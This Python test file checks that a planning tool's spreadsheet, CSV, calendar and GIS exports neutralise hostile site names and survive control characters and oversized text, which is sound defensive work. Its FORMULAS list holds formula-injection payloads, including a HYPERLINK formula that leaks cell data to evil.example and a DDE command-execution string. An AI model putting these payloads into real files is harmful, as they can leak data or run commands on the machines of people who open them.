"""Hostile site names through every export: no formula, no crash, one bad cell never blocks all.

Names as an attacker would upload them (a formula, a DDE payload, control characters, lone
surrogates, bidi overrides, a megabyte of text) go through the season exports, the one table
writer and the site selection's CSV.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import zipfile

import numpy as np
import pandas as pd
import pytest

from planner.export import (
    EXPORT_FORMATS,
    excel_workbook_bytes,
    export_all,
    export_bytes,
    table_csv_bytes,
    table_csv_text,
)
from planner.export.columns import header
from planner.season import SeasonConfig, SeasonPlan, plan_season
from planner.usertext import FORMULA_PREFIXES, SPREADSHEET_CELL_MAX_LENGTH

X0, Y0 = 575_000.0, 6_020_000.0

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
# (a lone surrogate cannot even enter a pandas text column; the table writer test covers it)
CONTROLS = [
    "Platz\x00Null",
    "Platz\x0bTab",
    "Platz\x0cFeed",
    "Plön\u202eesrever",
    "Zeile\u2028zwei",
]


def _plan(names: list[str]) -> SeasonPlan:
    rows = [
        dict(
            site_id="home",
            name="Kiel Rathausplatz",
            municipality="Kiel",
            district="Kiel",
            area_class="urban",
            score=0.0,
            x=X0,
            y=Y0,
        )
    ]
    for k, name in enumerate(names):
        rows.append(
            dict(
                site_id=f"s{k}",
                name=name,
                municipality=f"M{k}",
                district="Kiel",
                area_class="urban",
                score=float(10 + k),
                x=X0 + 2_000 * (k + 1),
                y=Y0 - 1_500 * (k + 1),
            )
        )
    sites = pd.DataFrame(rows)
    xy = sites[["x", "y"]].to_numpy()
    km = np.hypot(*(xy[:, None, :] - xy[None, :, :]).transpose(2, 0, 1)) / 1000
    cfg = SeasonConfig(
        start=dt.date(2023, 9, 4),
        end=dt.date(2023, 12, 22),
        home_site_id="home",
        district_quotas={"Kiel": len(names)},
        time_limit=10.0,
    )
    plan = plan_season(sites, km * 1.2, config=cfg, km=km)
    assert plan.feasible, plan.explain("en")
    return plan


@pytest.fixture(scope="module")
def formula_plan() -> SeasonPlan:
    return _plan(FORMULAS)


@pytest.fixture(scope="module")
def control_plan() -> SeasonPlan:
    return _plan(CONTROLS)


def _xlsx_cells(data: bytes) -> list[tuple[str, object, str]]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [
        (sheet.title, cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def _no_formula_in(data: bytes) -> None:
    """No cell of the workbook is a formula: openpyxl's type and the sheet XML agree."""
    cells = _xlsx_cells(data)
    assert cells
    assert not [c for c in cells if c[2] == "f"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    texts = [v for _s, v, _t in cells if isinstance(v, str)]
    assert not [v for v in texts if v.startswith(FORMULA_PREFIXES)]


def test_formula_names_are_neutralised_in_every_table_export(formula_plan: SeasonPlan) -> None:
    files = export_bytes(formula_plan, lang="de")
    assert not files.errors
    _no_formula_in(files["xlsx"][2])
    # the names are still there, readable, each behind one apostrophe
    texts = {v for _s, v, _t in _xlsx_cells(files["xlsx"][2]) if isinstance(v, str)}
    assert "'" + FORMULAS[0] in texts and "'=cmd|' /C calc'!A0" in texts
    text = files["csv"][2].decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    names = {r["Name"] for r in rows}
    assert len(rows) == len(FORMULAS)
    assert not [v for r in rows for v in r.values() if v.startswith(FORMULA_PREFIXES)]
    assert "'" + FORMULAS[0] in names and "'-2+3" in names
    # numbers stay numbers: a negative number is not text to neutralise
    km = header("tow_km", "de")
    assert all(float(r[km].replace(",", ".")) >= 0 for r in rows)


def test_one_control_character_no_longer_blocks_the_exports(control_plan: SeasonPlan) -> None:
    files = export_bytes(control_plan, lang="en")
    assert list(files) == list(EXPORT_FORMATS), files.errors
    assert not files.errors
    texts = [v for _s, v, _t in _xlsx_cells(files["xlsx"][2]) if isinstance(v, str)]
    assert "PlatzNull" in texts and "Plönesrever" in texts
    assert not [v for v in texts if any(ch in v for ch in "\x00\x0b\x0c\u202e")]
    ics = files["ics"][2].decode("utf-8")
    assert "PlatzNull" in ics and "\x00" not in ics and "\u202e" not in ics
    stops = json.loads(files["geojson"][2])
    assert "Zeile zwei" in {f["properties"]["name"] for f in stops["features"]}
    import pyogrio

    gpkg = pyogrio.read_dataframe(io.BytesIO(files["gpkg"][2]), layer="stops")
    assert "Platz\x00Null" not in set(gpkg["name"]) and "PlatzTab" in set(gpkg["name"])


def test_a_failing_format_is_named_and_the_others_are_made(
    control_plan: SeasonPlan, monkeypatch: pytest.MonkeyPatch, tmp_path: object
) -> None:
    def broken(*_args: object, **_kwargs: object) -> bytes:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr("planner.export.files.excel_bytes", broken)
    files = export_bytes(control_plan)
    assert files.errors == {"xlsx": "RuntimeError: disk on fire"}
    assert set(files) == set(EXPORT_FORMATS) - {"xlsx"}
    written = export_all(control_plan, tmp_path)  # type: ignore[arg-type]
    assert written.errors == {"xlsx": "RuntimeError: disk on fire"}
    assert all(path.is_file() for path in written.values()) and "csv" in written


def test_a_megabyte_name_fits_every_format() -> None:
    plan = _plan(["=" + "A" * 1_000_000, "Normal"])
    files = export_bytes(plan)
    assert not files.errors and list(files) == list(EXPORT_FORMATS)
    longest = max(len(v) for _s, v, _t in _xlsx_cells(files["xlsx"][2]) if isinstance(v, str))
    assert longest == SPREADSHEET_CELL_MAX_LENGTH  # Excel's cell limit, not a corrupt file
    _no_formula_in(files["xlsx"][2])


def test_the_table_writer_keeps_numbers_and_cleans_every_text_cell() -> None:
    frame = pd.DataFrame(
        {
            "name": pd.Series(["=1+1", "o\ud800k", None, "\x00@x"], dtype=object),
            "count": [1, -2, 3, 4],
            "share": [0.5, float("nan"), float("inf"), -1.5],
            "when": [dt.date(2023, 7, 3), pd.NaT, pd.Timestamp("2023-07-04", tz="UTC"), "x"],
            "chosen": [True, False, True, False],
        }
    )
    frame.insert(1, "=evil", ["+a", {"k": 1}, ["-b"], b"bytes"])
    rows = list(csv.reader(io.StringIO(table_csv_text(frame, lang="en"))))
    assert rows[0] == ["Name", "'=evil", "count", "share", "when", "Chosen"]
    assert [r[0] for r in rows[1:]] == ["'=1+1", "ok", "", "'@x"]
    assert [r[1] for r in rows[1:]] == ["'+a", "{'k': 1}", "['-b']", "b'bytes'"]
    assert [r[2] for r in rows[1:]] == ["1", "-2", "3", "4"]
    assert [r[3] for r in rows[1:]] == ["0.5", "", "∞", "-1.5"]
    assert [r[5] for r in rows[1:]] == ["yes", "no", "yes", "no"]
    assert table_csv_bytes(frame, lang="en") == table_csv_text(frame, lang="en").encode("utf-8-sig")
    # German by default: ";", decimal comma, "ja"/"nein", German dates
    german = list(csv.reader(io.StringIO(table_csv_text(frame)), delimiter=";"))
    assert german[0][0] == "Name" and german[0][-1] == "Ausgewählt"
    assert [r[3] for r in german[1:]] == ["0,5", "", "∞", "-1,5"]
    assert [r[5] for r in german[1:]] == ["ja", "nein", "ja", "nein"]
    assert german[1][4] == "03.07.2023"
    book = excel_workbook_bytes({"t": frame})
    _no_formula_in(book)
    values = [(v, kind) for _s, v, kind in _xlsx_cells(book)]
    assert (-2, "n") in values and (-1.5, "n") in values and ("∞", "s") in values


def test_infeasible_plan_still_refuses_every_export(formula_plan: SeasonPlan) -> None:
    with pytest.raises(ValueError, match="infeasible"):
        export_bytes(dataclasses.replace(formula_plan, status="infeasible"))
